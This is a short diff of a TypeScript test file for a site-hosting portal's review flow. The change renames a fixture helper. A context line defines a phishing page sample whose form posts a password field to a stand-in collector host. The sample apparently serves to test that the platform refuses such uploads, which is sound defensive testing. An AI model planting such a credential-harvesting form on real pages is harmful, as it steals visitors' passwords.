@@ -6,7 +6,7 @@ import { assertFit } from '../../../test/fixtures/portal/fit.ts'
 import { openTestRuntime } from '../../../test/fixtures/runtime.ts'
 import { mailSettings, openMailServer } from '../../../test/fixtures/external/mail-server.ts'
 import { newVisitor, signIn } from '../../../test/fixtures/portal/portal.ts'
-import { filesOf, newSiteOwner, newSlug } from '../../../test/fixtures/sites/site-owner.ts'
+import { filesFromTexts, newSiteOwner, newSlug } from '../../../test/fixtures/sites/site-owner.ts'
 import {
   decide,
   listReviews,
@@ -31,7 +31,7 @@ const stealing = `${page}\n<form action="https://collect.example"><input type="p
 async function refused() {
   const owner = await newSiteOwner(fixture)
   const slug = newSlug()
-  const body = { slug, files: filesOf({ 'index.html': stealing }) }
+  const body = { slug, files: filesFromTexts({ 'index.html': stealing }) }
   const { appeal_url } = (await owner.call('POST /sites', body)).body
   const visitor = newVisitor(fixture)
   return { ...owner, slug, visitor, path: new URL(appeal_url).pathname }
